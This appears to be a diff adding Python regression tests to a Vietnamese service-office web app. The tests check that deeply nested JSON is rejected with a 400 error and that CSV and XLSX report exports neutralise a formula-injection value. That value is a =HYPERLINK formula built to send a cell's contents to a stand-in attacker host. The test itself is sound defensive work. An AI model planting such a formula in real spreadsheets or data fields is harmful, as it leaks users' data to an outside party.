@@ -1,0 +1,51 @@
+"""Inputs that used to break things: deeply nested JSON (a 500), a field named
+like a formula (a live =HYPERLINK in a manager's spreadsheet)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+from sqlalchemy import select
+
+from motcua.core.models import Service
+from tests.admin.day import DAY, build_day
+from tests.admin.pages import add_person
+from tests.conftest import bearer, staff_token
+
+FORMULA = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
+
+
+def test_deeply_nested_json_is_a_400(client, api_world):
+    body = "[" * 30_000 + "]" * 30_000
+    for path in ("/api/v1/auth/token", "/api/v1/offices/demo/tickets"):
+        response = client.post(
+            path,
+            data=body,
+            content_type="application/json",
+            headers=bearer(api_world.kiosk_token),
+        )
+        assert response.status_code == 400, path
+        assert response.get_json()["error"]["code"] == "bad_json"
+
+
+def test_exports_carry_no_live_formula(app, client, api_world, clock):
+    db = app.extensions["motcua.db"]
+    build_day(db, api_world, clock)
+    with db.transaction() as session:
+        service = session.scalars(select(Service).where(Service.code == "CT")).one()
+        service.name_vi = FORMULA
+    add_person(db, clock, "ql", "demo", "manager")
+    headers = bearer(staff_token(client, "ql"))
+    url = f"/api/v1/offices/demo/reports/daily?date={DAY}"
+    text = client.get(url + "&format=csv", headers=headers).get_data(as_text=True)
+    names = [row[2] for row in csv.reader(io.StringIO(text))]
+    assert "'" + FORMULA in names and FORMULA not in names
+    data = client.get(url + "&format=xlsx", headers=headers).data
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [
+        v for row in book["Theo lĩnh vực"].iter_rows(values_only=True) for v in row
+    ]
+    assert "'" + FORMULA in cells
+    assert not any(isinstance(v, str) and v.startswith("=") for v in cells)
